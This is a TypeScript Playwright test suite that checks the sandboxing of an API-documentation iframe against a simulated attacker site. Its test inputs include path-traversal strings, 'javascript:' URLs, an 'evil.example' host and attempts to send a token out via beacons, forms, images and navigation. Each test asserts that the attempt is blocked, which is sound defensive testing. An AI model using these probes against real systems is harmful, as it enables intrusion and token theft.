import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { BrowserContext, Frame, Page, Route } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type Browser, browserAvailable, launchBrowser } from '../support/browser.ts'
import { startTestService, type TestAccount, type TestService } from '../support/service.ts'

/** Megabytes of script take time on a busy machine. */
const patience = 60_000

let running: TestService
let account: TestAccount
beforeAll(async () => {
  running = await startTestService()
  account = await running.account()
})

/**
 * Answers with our part of the program in the frame, which replaces `fetch`. Scalar, the rest of the file, needs five
 * seconds of processor time to start, and an attack is the test's own script. `reference.test.ts` runs the whole file.
 */
async function onlyOwnPart(route: Route): Promise<void> {
  const response = await route.fetch()
  const text = await response.text()
  await route.fulfill({ response, body: text.slice(0, text.indexOf(end) + end.length) })
}

/** The end of our part, one function that calls itself. */
const end = '})();'

/** An attacker's site: it serves one page, filled by the test, and records each request. */
let foreign: { server: Server; origin: string; seen: string[]; html: string }
beforeAll(async () => {
  const seen: string[] = []
  const server = createServer((request, response) => {
    if (request.url !== '/favicon.ico') seen.push(request.url ?? '')
    response.setHeader('content-type', 'text/html')
    response.setHeader('access-control-allow-origin', '*')
    response.end(foreign.html)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  foreign = { server, origin: `http://127.0.0.1:${port}`, seen, html: '' }
})
afterAll(() => foreign.server.close())

/** One for all tests here; each opens its own context. */
let browser: Browser
beforeAll(async () => {
  if (browserAvailable) browser = await launchBrowser()
})
afterAll(() => browser?.close())

describe.skipIf(!browserAvailable)('a page without an origin', () => {
  test("can't read any response of the API, even with a valid token", async () => {
    const page = await (await browser.open()).newPage()
    foreign.html = '<iframe sandbox="allow-scripts" srcdoc="<p>somebody else</p>"></iframe>'
    await page.goto(foreign.origin)
    const sandboxed = page.frames()[1] as Frame
    const answers = await sandboxed.evaluate(
      async ([base, token]) => {
        const read = (path: string, init: RequestInit) =>
          fetch(base + path, init).then(
            async (answer) => `${answer.status} ${await answer.text()}`,
            (error: Error) => error.name,
          )
        const headers = { authorization: `Bearer ${token}` }
        return [
          self.origin,
          await read('/test', { headers }),
          await read('/test', { method: 'POST', headers, body: '{"ping":"x"}' }),
          await read('/auth', { method: 'POST', body: 'grant_type=client_credentials' }),
        ]
      },
      [running.baseUrl, account.token] as const,
    )
    expect(answers).toEqual(['null', 'TypeError', 'TypeError', 'TypeError'])
  })
})

describe.skipIf(!browserAvailable)('the program in the frame of /docs', () => {
  let context: BrowserContext
  let page: Page
  let inside: Frame
  beforeAll(async () => {
    context = await browser.open()
    context.setDefaultTimeout(patience)
    const name = 'session'
    await context.addCookies([{ name, value: 'secret', url: running.url }])
    page = await context.newPage()
    await page.goto(`${running.url}/about`)
    await page.evaluate(() => localStorage.setItem('timbre.refresh', 'tmb_rt_secret'))
    await context.route('**/assets/scalar*', onlyOwnPart)
    await page.goto(`${running.url}/docs`)
    inside = page.frames()[1] as Frame
    await inside.waitForFunction(() => !String(fetch).includes('[native code]'))
  }, patience)
  afterAll(() => context?.close())

  /** The outer page's answer to a call, whatever the script in the frame sends. */
  const ask = (call: unknown) =>
    inside.evaluate(
      (call) =>
        new Promise<{ failed?: string; status?: number; text?: string }>((resolve) => {
          const { port1, port2 } = new MessageChannel()
          port1.onmessage = ({ data }) =>
            resolve(data.body ? { ...data, body: 0, text: new TextDecoder().decode(data.body) } : data)
          parent.postMessage({ call: call }, '*', [port2])
        }),
      call,
    )
  const get = (url: string) => ({ method: 'GET', url, headers: [] as [string, string][] })

  test('gets API responses with a token, without cookies and with allowed headers only', async () => {
    const headers = [
      ['Authorization', `Bearer ${account.token}`],
      ['Cookie', 'session=made-up'],
      ['X-Forwarded-For', '203.0.113.7'],
      ['X-HTTP-Method-Override', 'DELETE'],
    ]
    const [request, answer] = await Promise.all([
      page.waitForRequest(`${running.baseUrl}/test`),
      ask({ ...get('/api/v4/test'), headers }),
    ])
    expect(answer).toMatchObject({ status: 200, text: expect.stringContaining('The token works.') })
    const sent = await request.allHeaders()
    expect(sent.authorization).toBe(`Bearer ${account.token}`)
    for (const name of ['cookie', 'x-forwarded-for', 'x-http-method-override', 'referer'])
      expect(sent).not.toHaveProperty(name)
  })

  test('exchanges client credentials like any program', async () => {
    const headers = [['content-type', 'application/json']]
    const answer = await inside.evaluate(
      async ([body, list]) => {
        const response = await fetch('/api/v4/auth', { method: 'POST', headers: list as [], body })
        return { status: response.status, url: response.url, text: await response.text() }
      },
      [
        JSON.stringify({
          grant_type: 'client_credentials',
          client_id: account.clientId,
          client_secret: account.clientSecret,
        }),
        headers,
      ] as const,
    )
    expect(answer).toMatchObject({ status: 200, url: `${running.baseUrl}/auth` })
    expect(answer.text).toContain('access_token')
  })

  test.each([
    '/login',
    '/apps',
    '/dev/mailbox.json',
    '/oauth/authorize',
    '/api/v4',
    '/api/v40/test',
    '/api/v4/../../dev/mailbox.json',
    '/api/v4/%2e%2e/%2e%2e/dev/mailbox.json',
    '/api/v4/..%2f..%2fdev/mailbox.json',
    '/api/v4/..%5C..%5Cdev/mailbox.json',
    '/api/v4//dev/mailbox.json',
    '\\\\127.0.0.1\\api\\v4\\test',
    'FOREIGN/api/v4/test',
    '//FOREIGNHOST/api/v4/test',
    'data:text/plain,/api/v4/test',
    'OWN_WITH_PASSWORD/api/v4/test',
    7,
  ])("can't send a request to %s", async (written) => {
    const requests: string[] = []
    const note = (request: { url: () => string }) => requests.push(request.url())
    page.on('request', note)
    const url = String(written)
      .replace('FOREIGNHOST', new URL(foreign.origin).host)
      .replace('FOREIGN', foreign.origin)
      .replace('OWN_WITH_PASSWORD', running.url.replace('://', '://a:b@'))
    const answer = await ask(get(typeof written === 'string' ? url : (written as never)))
    page.off('request', note)
    expect(answer).toEqual({ failed: expect.stringContaining('Only requests to') })
    expect(requests).toEqual([])
  })

  test.each([
    ['nothing', null],
    ['a text', 'GET /api/v4/test'],
    ['a method that the API does not take', { method: 'TRACE', url: '/api/v4/test', headers: [] }],
    ['a method in another case', { method: 'get', url: '/api/v4/test', headers: [] }],
    ['headers that are no list', { method: 'GET', url: '/api/v4/test', headers: { a: 'b' } }],
    ['a header that is no pair', { method: 'GET', url: '/api/v4/test', headers: [['a']] }],
    ['a body that is no bytes', { method: 'POST', url: '/api/v4/test', headers: [], body: 'text' }],
    [
      'a header that cannot be sent',
      { method: 'GET', url: '/api/v4/test', headers: [['accept', 'a\u0000b']] },
    ],
  ])("can't send %s, and the next request works", async (_, call) => {
    expect(await ask(call)).toEqual({ failed: expect.any(String) })
    expect(await ask(get('/api/v4/openapi.json'))).toMatchObject({ status: 200 })
  })

  test("can't send to an address that is too long", async () => {
    const answer = await ask(get(`/api/v4/test?ping=${'x'.repeat(9_000)}`))
    expect(answer).toEqual({ failed: expect.stringContaining('Only requests to') })
  })

  test("can't send a body of more than a mebibyte, and can send one of exactly that size", async () => {
    const send = (bytes: number) =>
      inside.evaluate(
        (size) =>
          fetch('/api/v4/test', { method: 'POST', body: new Uint8Array(size) }).then(
            ({ status }) => status,
            (error: Error) => error.message,
          ),
        bytes,
      )
    expect(await send(1024 * 1024 + 1)).toContain('more than 1048576 bytes')
    expect(await send(1024 * 1024)).toBe(401)
  })

  test("can't read the page around it, or send it anywhere", async () => {
    foreign.seen.length = 0
    const found = await inside.evaluate((elsewhere) => {
      const tried = (read: () => unknown) => {
        try {
          return String(read())
        } catch (error) {
          return (error as Error).name
        }
      }
      return {
        document: tried(() => parent.document.title),
        storage: tried(() => parent.localStorage.getItem('timbre.refresh')),
        cookie: tried(() => document.cookie),
        element: tried(() => window.frameElement),
        address: tried(() => top?.location.href),
        navigation: tried(() => {
          if (top) top.location.href = elsewhere
        }),
        tab: tried(() => window.open(elsewhere)),
        same: tried(() => window.open(elsewhere, '_top')),
      }
    }, foreign.origin)
    expect(found).toEqual({
      document: 'SecurityError',
      storage: 'SecurityError',
      cookie: 'SecurityError',
      element: 'null',
      address: 'SecurityError',
      navigation: 'SecurityError',
      tab: 'null',
      same: 'null',
    })
    expect(page.url()).toContain(`${running.url}/docs`)
    expect(context.pages()).toHaveLength(1)
    expect(foreign.seen).toEqual([])
  })

  test('has no other way to send anything', async () => {
    foreign.seen.length = 0
    const results = await inside.evaluate(
      async ([own, elsewhere]) => {
        const send = (url: string) =>
          new Promise<string>((resolve) => {
            const request = new XMLHttpRequest()
            request.onload = () => resolve(`read ${request.status}`)
            request.onerror = () => resolve('error')
            request.open('GET', url)
            request.send()
          })
        const pictured = (url: string) =>
          new Promise<string>((resolve) => {
            const picture = new Image()
            picture.onload = () => resolve('loaded')
            picture.onerror = () => resolve('error')
            picture.src = url
          })
        const nested = document.createElement('iframe')
        nested.src = `${elsewhere}/nested`
        document.body.append(nested)
        const form = document.createElement('form')
        form.action = `${elsewhere}/form`
        document.body.append(form)
        form.submit()
        navigator.sendBeacon(`${elsewhere}/beacon`, 'token')
        return Promise.all([
          ...[send(`${own}/openapi.json`), send(`${elsewhere}/request`), pictured(`${elsewhere}/picture`)],
          fetch(`${elsewhere}/fetch`).catch(({ name }) => name),
        ])
      },
      [running.baseUrl, foreign.origin] as const,
    )
    expect(results).toEqual(['error', 'error', 'error', 'TypeError'])
    expect(foreign.seen).toEqual([])
  })

  test('opens documentation pages in new tabs, and no others', async () => {
    const own = running.url
    const addresses = [
      `${own}/login`,
      `${own}/docs/mcp/../../login`,
      foreign.origin,
      'javascript:alert(1)',
      'x',
    ]
    for (const open of addresses)
      await inside.evaluate((address) => parent.postMessage({ open: address }, '*'), open)
    const [tab] = await Promise.all([
      context.waitForEvent('page'),
      inside.evaluate((address) => parent.postMessage({ open: address }, '*'), `${own}/docs/mcp?x=1#y`),
    ])
    await tab.waitForLoadState()
    expect(tab.url()).toBe(`${own}/docs/mcp`)
    expect(await tab.evaluate(() => window.opener)).toBeNull()
    expect(context.pages()).toHaveLength(2)
    await tab.close()
  })

  test('changes only the fragment of the address', async () => {
    const sections = ['/login', '//evil.example', `#${'x'.repeat(600)}`, '#tag/tests']
    for (const section of sections)
      await inside.evaluate((text) => parent.postMessage({ section: text }, '*'), section)
    await page.waitForURL(`${running.url}/docs#tag/tests`)
  })

  // The last test, because the frame is empty afterwards.
  test('sends nothing by navigating its frame elsewhere', async () => {
    foreign.seen.length = 0
    await inside.evaluate((address) => {
      location.href = address
    }, `${foreign.origin}/?token=secret`)
    await expect.poll(() => page.frames()[1]?.url()).toContain('chrome-error')
    expect(foreign.seen).toEqual([])
    expect(page.url()).toContain(`${running.url}/docs`)
  })
})

describe.skipIf(!browserAvailable)('a page of another site', () => {
  test.each(['/docs', '/docs/frame'])('cannot frame %s', async (path) => {
    const page = await (await browser.open()).newPage()
    foreign.html = `<iframe src="${running.url}${path}"></iframe>`
    await page.goto(foreign.origin)
    await expect.poll(() => page.frames()[1]?.url()).toContain('chrome-error')
  })

  test('cannot frame the inner page through a frame without an origin either', async () => {
    const page = await (await browser.open()).newPage()
    foreign.html = `<iframe sandbox="allow-scripts" srcdoc="<iframe src='${running.url}/docs/frame'></iframe>"></iframe>`
    await page.goto(foreign.origin)
    await expect.poll(() => page.frames()[2]?.url()).toContain('chrome-error')
  })

  test('gets no message from a window of /docs that it opened', async () => {
    const context = await openWithoutProgram()
    const page = await context.newPage()
    foreign.html = '<p>somebody else</p>'
    await page.goto(foreign.origin)
    const [tab] = await Promise.all([
      context.waitForEvent('page'),
      page.evaluate((address) => {
        const opened = window.open(address)
        Object.assign(window, { opened })
      }, `${running.url}/docs`),
    ])
    await tab.waitForLoadState()
    expect(tab.frames()[1]?.url()).toBe(`${running.url}/docs/frame`)
    const heard = await page.evaluate(async (token) => {
      const { opened } = window as unknown as { opened: Window }
      const { port1, port2 } = new MessageChannel()
      const answered = new Promise<string>((resolve) => {
        port1.onmessage = () => resolve('an answer')
      })
      const headers = [['authorization', `Bearer ${token}`]]
      opened.postMessage({ call: { method: 'GET', url: '/api/v4/test', headers } }, '*', [port2])
      const nothing = new Promise<string>((resolve) => setTimeout(() => resolve('nothing'), 500))
      return Promise.race([answered, nothing])
    }, account.token)
    expect(heard).toBe('nothing')
  })

  test('the page around the frame accepts messages from its own frame only', async () => {
    const page = await (await openWithoutProgram()).newPage()
    await page.goto(`${running.url}/docs`)
    const heard = await page.evaluate(async () => {
      const other = document.createElement('iframe')
      other.setAttribute('sandbox', 'allow-scripts')
      document.body.append(other)
      const answer = (source: Window | null, origin: string) =>
        new Promise<string>((resolve) => {
          const { port1, port2 } = new MessageChannel()
          port1.onmessage = () => resolve('an answer')
          const data = { call: { method: 'GET', url: '/api/v4/openapi.json', headers: [] } }
          dispatchEvent(new MessageEvent('message', { data, source, origin, ports: [port2] }))
          setTimeout(() => resolve('nothing'), 500)
        })
      const own = document.querySelector('iframe')?.contentWindow ?? null
      return [
        await answer(other.contentWindow, 'null'),
        await answer(window, location.origin),
        await answer(own, location.origin),
        await answer(own, 'null'),
      ]
    })
    expect(heard).toEqual(['nothing', 'nothing', 'nothing', 'an answer'])
  })

  /** A context in which the frame stays empty: its program takes seconds, and only the page around it answers. */
  async function openWithoutProgram(): Promise<BrowserContext> {
    const context = await browser.open()
    await context.route('**/assets/scalar*', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: '' }),
    )
    return context
  }
})
